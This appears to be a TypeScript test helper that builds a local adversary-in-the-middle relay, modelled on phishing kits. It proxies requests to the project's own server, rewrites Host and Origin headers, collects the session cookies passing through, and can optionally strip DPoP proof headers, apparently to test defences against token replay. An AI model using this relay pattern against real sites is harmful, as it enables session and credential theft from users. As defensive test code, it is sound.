/**
 * An attacker's site that hands our pages through as its own, as the usual phishing kits do: the visitor sees our code,
 * live, under another address, and whatever is given to that page is given to the attacker.
 */
import { once } from 'node:events'
import { createServer, type IncomingMessage, request as send } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface RelaySite {
  /** Not the host of the site behind it, so that a browser keeps nothing in common for the two. */
  readonly url: string
  /** The cookies that our server has set, by name, as the attacker reads them on the way. */
  readonly cookies: ReadonlyMap<string, string>
  close(): Promise<void>
}

/** `proofs` of browser keys are made for the address that the browser sees; a kit that knows of them cuts them out. */
export async function openRelay(origin: string, { proofs }: { proofs: 'kept' | 'cut' }): Promise<RelaySite> {
  const cookies = new Map<string, string>()
  const server = createServer((request, response) => {
    const headers = { ...ofOurOwn(request, origin) }
    if (proofs === 'cut') delete headers.dpop
    const { method = 'GET', url = '/' } = request
    const onward = send(new URL(url, origin), { method, headers }, answer => {
      for (const cookie of answer.headers['set-cookie'] ?? []) {
        const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(cookie) ?? []
        cookies.set(name, value)
      }
      response.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(response)
    })
    onward.on('error', () => response.destroy())
    response.on('close', () => onward.destroy())
    request.pipe(onward)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  // A TCP server that listens has such an address.
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}`,
    cookies,
    async close() {
      server.close()
      server.closeAllConnections()
      await once(server, 'close')
    },
  }
}

/** What a page of the site itself would have sent. */
function ofOurOwn({ headers }: IncomingMessage, origin: string): IncomingMessage['headers'] {
  const { host: _, ...rest } = headers
  return { ...rest, host: new URL(origin).host, ...(headers.origin !== undefined && { origin }) }
}
